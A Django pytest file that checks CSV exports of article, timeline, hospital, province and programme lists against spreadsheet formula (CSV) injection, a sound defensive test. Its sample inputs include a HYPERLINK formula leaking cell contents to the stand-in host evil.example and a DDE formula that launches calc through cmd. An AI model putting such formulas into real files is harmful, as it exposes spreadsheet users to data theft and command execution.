"""CSV exports are opened in spreadsheets: a cell that starts like a formula must not run
as one (OWASP "CSV injection"). Every list page's CSV export is checked with imported
text that starts with each trigger character; JSON keeps the text as it is."""

import csv
import datetime
import io
import json

import pytest
from django.urls import reverse

from articles.models import Citation
from core.exports import neutralise_cell
from hospitals.models import Hospital, Province
from programmes.models import Event, Programme
from tests.factories import make_article, make_outlet

pytestmark = pytest.mark.django_db

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOADS = [f'{t}HYPERLINK("http://evil.example/?"&A1,"点击")' for t in TRIGGERS]


def body(response) -> str:
    return b"".join(response.streaming_content).decode("utf-8")


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(body(response).lstrip("\ufeff"), newline="")))


@pytest.mark.parametrize("value", PAYLOADS)
def test_a_cell_starting_like_a_formula_is_quoted(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["普通标题", "2019", "", "a=b", " =1", 42, None, -3])
def test_other_cells_are_left_alone(value):
    assert neutralise_cell(value) == value


def test_article_export(client):
    outlet = make_outlet(name="=cmd|' /C calc'!A0")
    for n, payload in enumerate(PAYLOADS):
        make_article(title=payload, reporter=f"@reporter{n}", outlet=outlet)
    rows = csv_rows(client.get(reverse("articles:list"), {"format": "csv"}))
    assert sorted(r["title"] for r in rows) == sorted("'" + p for p in PAYLOADS)
    assert {r["outlet"] for r in rows} == {"'=cmd|' /C calc'!A0"}
    assert all(r["reporter"].startswith("'@reporter") for r in rows)
    data = json.loads(body(client.get(reverse("articles:list"), {"format": "json"})))
    assert sorted(a["title"] for a in data) == sorted(PAYLOADS)  # JSON is not for spreadsheets


def test_timeline_export(client):
    rmc = Programme.objects.get(key="regional_medical_center")
    for n, payload in enumerate(PAYLOADS):
        event = Event.objects.create(
            summary=payload, date=datetime.date(2020, 1, n + 1), date_precision="day"
        )
        event.programmes.add(rmc)
        Citation.objects.create(article=make_article(), quote=payload, event=event)
    rows = csv_rows(client.get(reverse("articles:timeline"), {"format": "csv"}))
    assert sorted(r["summary"] for r in rows) == sorted("'" + p for p in PAYLOADS)


def test_hospital_export(client):
    hospital = Hospital.objects.order_by("id").first()
    Hospital.objects.filter(pk=hospital.pk).update(name_en="+SUM(1,2)", source="-2+3")
    rows = csv_rows(client.get(reverse("hospitals:hospital-list"), {"format": "csv"}))
    row = next(r for r in rows if r["name"] == hospital.name)
    assert (row["name_en"], row["source"]) == ("'+SUM(1,2)", "'-2+3")


def test_province_export(client):
    Province.objects.filter(slug="henan").update(name_en="=1+1")
    rows = csv_rows(client.get(reverse("hospitals:province-list"), {"format": "csv"}))
    assert next(r for r in rows if r["name"] == "河南省")["name_en"] == "'=1+1"


def test_programme_export(client):
    Programme.objects.filter(key="county_reform").update(description="\t=1+1", lead_agencies="@x")
    rows = csv_rows(client.get(reverse("programmes:list"), {"format": "csv"}))
    row = next(r for r in rows if r["key"] == "county_reform")
    assert (row["description"], row["lead_agencies"]) == ("'\t=1+1", "'@x")
